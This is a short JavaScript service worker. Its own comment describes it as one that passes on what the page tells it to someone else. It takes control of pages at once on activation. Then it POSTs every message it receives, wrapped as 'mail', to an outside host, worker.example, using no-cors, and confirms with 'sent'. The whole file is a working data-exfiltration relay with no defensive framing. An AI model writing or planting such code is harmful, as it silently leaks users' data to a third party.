// A service worker that tells somebody else what the page told it.
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("message", (event) => {
  const sent = fetch("https://worker.example/w", {method: "POST", mode: "no-cors", body: JSON.stringify({mail: event.data})});
  event.waitUntil(sent.finally(() => event.source.postMessage("sent")));
});
